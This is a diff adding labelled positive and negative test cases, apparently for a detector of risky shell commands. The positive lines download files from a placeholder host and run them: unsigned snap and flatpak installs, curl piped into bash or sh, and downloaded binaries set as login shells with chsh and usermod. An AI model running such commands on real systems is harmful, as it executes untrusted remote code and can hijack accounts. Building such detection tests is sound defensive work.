@@ -473,3 +473,28 @@ tar -tzf /tmp/d.tgz
 cat >> ~/.bash_aliases <<'A'
 alias ll='ls -la'
 A
+#@ pos a downloaded snap installed without its signature checked
+curl -fsSL -o /tmp/a.snap https://x.example/a.snap
+sudo snap install --dangerous /tmp/a.snap
+#@ pos a downloaded flatpak bundle installed
+wget -qO "$b" https://x.example/v.flatpak && flatpak install -y --bundle "$b"
+#@ neg snaps and flatpaks from their stores
+sudo snap install --classic code
+flatpak install -y flathub org.gnome.TextEditor
+#@ pos a download piped into a shell run through bwrap
+curl -fsSL https://x.example/s.sh | bwrap --dev-bind / / --tmpfs /tmp bash
+#@ neg a download piped into jq run through bwrap
+curl -fsSL https://x.example/s.json | bwrap --ro-bind / / --dev /dev jq .
+#@ pos fd -x runs a shell whose code downloads and runs a script
+fd -t d . /tmp -x sh -c 'curl -fsSL https://x.example/s | sh'
+#@ neg fd -x compresses the files it finds
+fd -e log . /var/log/app -x gzip -9
+#@ pos a download made the login shell by chsh
+curl -fsSL -o ~/.local/bin/tsh https://x.example/tsh
+chsh -s ~/.local/bin/tsh
+#@ pos a download made a user's login shell by usermod
+wget -qO /usr/local/sbin/ms https://x.example/ms
+usermod --shell /usr/local/sbin/ms svc
+#@ neg an installed shell made the login shell
+chsh -s /usr/bin/zsh
+usermod -s /usr/sbin/nologin svc
